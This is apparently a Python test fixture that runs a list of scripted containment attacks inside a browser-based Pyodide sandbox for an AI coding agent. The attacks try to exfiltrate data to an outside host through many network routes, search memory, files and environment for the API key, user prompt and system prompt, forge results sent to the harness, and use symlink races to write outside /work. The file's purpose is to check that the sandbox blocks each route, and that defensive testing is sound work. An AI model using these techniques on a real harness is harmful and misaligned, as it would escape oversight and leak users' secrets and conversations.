"""Attacks run by the model's python3 inside the sandbox (e2e/test_containment.py).

The test writes this file into /work and the scripted model runs
``python3 attacks.py NAME PAGE_URL OTHER_URL PROVIDER_URL`` once per attack. What it
hunts for (the API key, a word of the user's prompt, a phrase of the system prompt) is
written into this file reversed, so that only a leak puts the real string in memory.
Each attack prints one verdict line:

- ``BLOCKED: why`` — the attempt failed right away;
- ``STARTED`` — an asynchronous attempt was started; its outcome is kept in this
  interpreter and printed by the ``report`` attack later (``NAME: BLOCKED|LEAKED ...``);
- ``SENT`` — the attempt cannot fail visibly here; the page checks that nothing arrived;
- ``LEAKED: what`` — the attempt worked (the test then fails).

Whatever is printed, the test also checks that the logging servers got no request.
"""

from __future__ import annotations

import asyncio
import builtins
import gc
import os
import sys
from collections.abc import Callable
from typing import Any

import js  # type: ignore[import-not-found]
from pyodide.ffi import create_proxy, to_js  # type: ignore[import-not-found]

NAME, PAGE, OTHER, PROVIDER = sys.argv[1:5]
SECRET_REVERSED = "@SECRET@"
MARKER_REVERSED = "@MARKER@"
SYSTEM_REVERSED = "tnega gnidoc a era uoY"
RESULTS: dict[str, str] = builtins.__dict__.setdefault("ph_results", {})
KEEP: list[Any] = builtins.__dict__.setdefault("ph_keep", [])  # proxies stay alive


def obj(**fields: Any) -> Any:
    return to_js(fields, dict_converter=js.Object.fromEntries)


def settle(name: str, promise: Any) -> str:
    """Record how a JS promise settles: a resolution is a leak."""
    RESULTS[name] = "PENDING (never settled)"

    def ok(value: Any) -> None:
        RESULTS[name] = f"LEAKED: resolved with {str(value)[:80]}"

    def failed(error: Any) -> None:
        RESULTS[name] = f"BLOCKED: {str(error)[:120]}"

    handlers = (create_proxy(ok), create_proxy(failed))
    KEEP.extend(handlers)
    promise.then(*handlers)
    return "STARTED"


def events(name: str, target: Any, good: str, bad: str = "error") -> str:
    """Record which event a JS object fires first: ``good`` is a leak."""
    RESULTS[name] = "PENDING (no event)"

    def on_good(_: Any) -> None:
        RESULTS[name] = f"LEAKED: {good} fired"

    def on_bad(_: Any) -> None:
        RESULTS[name] = f"BLOCKED: {bad} fired"

    handlers = (create_proxy(on_good), create_proxy(on_bad))
    KEEP.extend(handlers)
    target.addEventListener(good, handlers[0])
    target.addEventListener(bad, handlers[1])
    return "STARTED"


def attempt(fn: Callable[[], str]) -> str:
    try:
        return fn()
    except Exception as exc:
        return f"BLOCKED: {type(exc).__name__}: {str(exc).splitlines()[-1][:160] if str(exc) else ''}"


def search(reversed_needle: str) -> str:
    """Every object this interpreter holds: is the needle in any string?"""
    needle = reversed_needle[::-1]
    hits = 0
    for o in gc.get_objects():
        try:
            if isinstance(o, dict):
                values = list(o.values()) + list(o.keys())
            elif isinstance(o, list | tuple | set):
                values = list(o)
            else:
                values = [o]
            for v in values:
                if isinstance(v, str) and needle in v:
                    hits += 1
        except Exception:
            continue
    return f"LEAKED: {hits} objects hold it" if hits else "BLOCKED: not in this interpreter"


# -- the network -------------------------------------------------------------


def nested_worker(name: str, url: str) -> str:
    code = ("fetch(" + repr(OTHER + "/nested") + ").then(() => postMessage('LEAKED'), "
            "(e) => postMessage('BLOCKED: ' + e))")
    worker = js.Worker.new(url(code) if callable(url) else url, obj(type="module"))
    RESULTS[name] = "PENDING (no message)"

    def on_message(event: Any) -> None:
        RESULTS[name] = str(event.data)

    def on_error(_: Any) -> None:
        RESULTS[name] = "BLOCKED: the worker did not start"

    handlers = (create_proxy(on_message), create_proxy(on_error))
    KEEP.extend(handlers)
    worker.onmessage, worker.onerror = handlers
    KEEP.append(worker)
    return "STARTED"


def data_url(code: str) -> str:
    return "data:text/javascript," + js.encodeURIComponent(code)


def blob_url(code: str) -> str:
    blob = js.Blob.new(to_js([code]), obj(type="text/javascript"))
    return str(js.URL.createObjectURL(blob))


def pyfetch(name: str) -> str:
    from pyodide.http import pyfetch as fetch  # type: ignore[import-not-found]

    RESULTS[name] = "PENDING"
    task = asyncio.ensure_future(fetch(OTHER + "/pyfetch"))
    KEEP.append(task)

    def done(t: Any) -> None:
        RESULTS[name] = f"BLOCKED: {t.exception()}" if t.exception() else "LEAKED: answered"

    task.add_done_callback(done)
    return "STARTED"


def sync_xhr(url: str) -> str:
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", url, False)
    xhr.send()
    return f"LEAKED: status {xhr.status}"


def open_url() -> str:
    from pyodide.http import open_url as fetch_sync  # type: ignore[import-not-found]

    return f"LEAKED: {fetch_sync(OTHER + '/open_url').read()[:40]}"


# -- storage, secrets, the harness ---------------------------------------------


def indexed_db() -> str:
    request = js.indexedDB.open("pyharness-attack")
    return events("storage_indexeddb", request, "success")


def walk_files(needle: str) -> str:
    for top in ("/work", "/tmp", "/home"):
        for root, _, files in os.walk(top):
            for f in files:
                try:
                    with open(os.path.join(root, f), "rb") as fh:
                        if needle.encode() in fh.read():
                            return f"LEAKED: in {root}/{f}"
                except OSError:
                    pass
    return "BLOCKED: in no file"


def js_globals(needle: str) -> str:
    for name in js.Object.getOwnPropertyNames(js.self):
        try:
            value = getattr(js.self, name)
        except Exception:
            continue
        if isinstance(value, str) and needle in value:
            return f"LEAKED: self.{name}"
    return "BLOCKED: in no global"


def forge_result() -> str:
    """Rewrite this command's result on its way to the harness: a change outside /work
    (the harness's own package) beside a harmless one."""
    original = js.MessagePort.prototype.postMessage

    def forged(this: Any, message: Any, *transfer: Any) -> Any:
        if getattr(message, "type", None) == "result":
            message.changes.dirs = to_js(["/work/fine", "/work/../lib/python3.14/site-packages/harness/pwned"])
            js.MessagePort.prototype.postMessage = original
        return original.call(this, message, *transfer)

    proxy = create_proxy(forged, capture_this=True)
    KEEP.append(proxy)
    js.MessagePort.prototype.postMessage = proxy
    return "ARMED"


def write_through() -> str:
    """A symlink to the sandbox's site-packages, and a write through it."""
    os.symlink("/lib/python3.14/site-packages", "/work/sp")
    with open("/work/sp/pwned.py", "w") as f:
        f.write("x")
    return "SENT"


def swap_loop() -> str:
    """A timer that keeps swapping /work/d between a directory and a symlink to the
    sandbox's site-packages while the next command writes into /work/d."""
    os.makedirs("/work/d", exist_ok=True)

    def swap() -> None:
        try:
            if os.path.islink("/work/d"):
                os.unlink("/work/d")
                os.mkdir("/work/d")
            else:
                os.rename("/work/d", "/work/d-real")
                os.symlink("/lib/python3.14/site-packages", "/work/d")
        except OSError:
            pass

    proxy = create_proxy(swap)
    KEEP.append(proxy)
    builtins.__dict__["ph_timer"] = js.setInterval(proxy, 1)
    return "ARMED"


def stop_swap() -> str:
    js.clearInterval(builtins.__dict__.pop("ph_timer", 0))
    for path in ("/work/d", "/work/d-real"):
        if os.path.islink(path):
            os.unlink(path)
    return "STOPPED"


ATTACKS: dict[str, Callable[[], str]] = {
    # the network, every route
    "net_fetch_page_api": lambda: settle("net_fetch_page_api", js.fetch(
        PAGE + "/api/secret", obj(credentials="include"))),
    "net_fetch_other": lambda: settle("net_fetch_other", js.fetch(OTHER + "/fetch")),
    "net_fetch_no_cors": lambda: settle("net_fetch_no_cors", js.fetch(
        OTHER + "/no-cors", obj(mode="no-cors"))),
    "net_fetch_post": lambda: settle("net_fetch_post", js.fetch(
        OTHER + "/post", obj(method="POST", body="stolen"))),
    "net_fetch_bundle_write_channel": lambda: settle("net_fetch_bundle_write_channel", js.fetch(
        PAGE + "/pyharness/manifest.json?leak=1")),
    "net_fetch_model_endpoint": lambda: settle("net_fetch_model_endpoint", js.fetch(
        PROVIDER + "/v1/chat/completions", obj(method="POST", body="{}"))),
    "net_pyfetch": lambda: pyfetch("net_pyfetch"),
    "net_open_url": open_url,
    "net_sync_xhr": lambda: sync_xhr(OTHER + "/xhr"),
    "net_sync_xhr_page": lambda: sync_xhr(PAGE + "/api/secret"),
    "net_websocket": lambda: events("net_websocket", js.WebSocket.new(
        OTHER.replace("http", "ws") + "/ws"), "open"),
    "net_eventsource": lambda: events("net_eventsource", js.EventSource.new(OTHER + "/es"),
                                      "open"),
    "net_webtransport": lambda: settle("net_webtransport", js.WebTransport.new(
        OTHER.replace("http", "https") + "/wt").ready),
    "net_beacon": lambda: f"LEAKED: {js.navigator.sendBeacon(OTHER + '/beacon', 'x')}",
    "net_import_scripts": lambda: f"LEAKED: {js.importScripts(OTHER + '/s.js')}",
    "net_eval_import": lambda: f"LEAKED: {js.eval('import(' + repr(OTHER + '/m.js') + ')')}",
    "net_function_ctor": lambda: f"LEAKED: {js.Function.new('return fetch')}",
    "net_run_js": lambda: f"LEAKED: {__import__('pyodide.code').code.run_js('1')}",
    "net_nested_data_worker": lambda: nested_worker("net_nested_data_worker", data_url),
    "net_nested_blob_worker": lambda: nested_worker("net_nested_blob_worker", blob_url),
    "net_webrtc": lambda: f"LEAKED: {js.RTCPeerConnection.new()}",
    "net_wasm_streaming": lambda: settle("net_wasm_streaming", js.WebAssembly.compileStreaming(
        js.fetch(OTHER + "/x.wasm"))),
    # the origin's storage
    "storage_origin": lambda: ("BLOCKED: opaque origin" if str(js.self.origin) == "null"
                               else f"LEAKED: origin {js.self.origin}"),
    "storage_indexeddb": indexed_db,
    "storage_cache": lambda: settle("storage_cache", js.caches.open("pyharness-attack")),
    "storage_cache_keys": lambda: settle("storage_cache_keys", js.caches.keys()),
    "storage_opfs": lambda: settle("storage_opfs", js.navigator.storage.getDirectory()),
    "storage_service_worker": lambda: settle("storage_service_worker",
                                             js.navigator.serviceWorker.register("/sw.js")),
    "storage_locks": lambda: settle("storage_locks", js.navigator.locks.query()),
    "storage_cookie": lambda: f"LEAKED: {js.document.cookie}",
    "storage_local_storage": lambda: f"LEAKED: {js.localStorage.length}",
    "storage_broadcast": lambda: (js.BroadcastChannel.new("pyharness-attack")
                                  .postMessage("LEAKED from the sandbox"), "SENT")[1],
    # the key, the conversation, the harness
    "secret_key_gc": lambda: search(SECRET_REVERSED),
    "secret_conversation_gc": lambda: search(MARKER_REVERSED),
    "secret_system_prompt_gc": lambda: search(SYSTEM_REVERSED),
    "secret_key_files": lambda: walk_files(SECRET_REVERSED[::-1]),
    "secret_key_js_globals": lambda: js_globals(SECRET_REVERSED[::-1]),
    "secret_env": lambda: (
        f"LEAKED: {k}" if (k := next((k for k, v in os.environ.items()
                                      if SECRET_REVERSED[::-1] in v), None))
        else "BLOCKED: not in the environment"),
    "harness_import": lambda: f"LEAKED: {__import__('harness.workspace.jail')}",
    "harness_in_sys_modules": lambda: (
        "LEAKED: " + ", ".join(m for m in sys.modules if m.startswith(("harness", "pydantic")))
        if any(m.startswith(("harness", "pydantic")) for m in sys.modules)
        else "BLOCKED: no harness or pydantic in this interpreter"),
    "harness_post_to_page": lambda: (js.postMessage(obj(
        type="fsres", id=1, ok=True, value="forged")), "SENT")[1],
    "harness_forge_result": forge_result,
    "fs_symlink_out": lambda: (os.symlink("/lib", "/work/evil-link"), "SENT")[1],
    "fs_symlink_write_through": lambda: write_through(),
    "fs_swap_start": swap_loop,
    "fs_swap_stop": stop_swap,
    "report": lambda: "\n".join(f"{k}: {v}" for k, v in sorted(RESULTS.items())),
}

print(attempt(ATTACKS[NAME]))
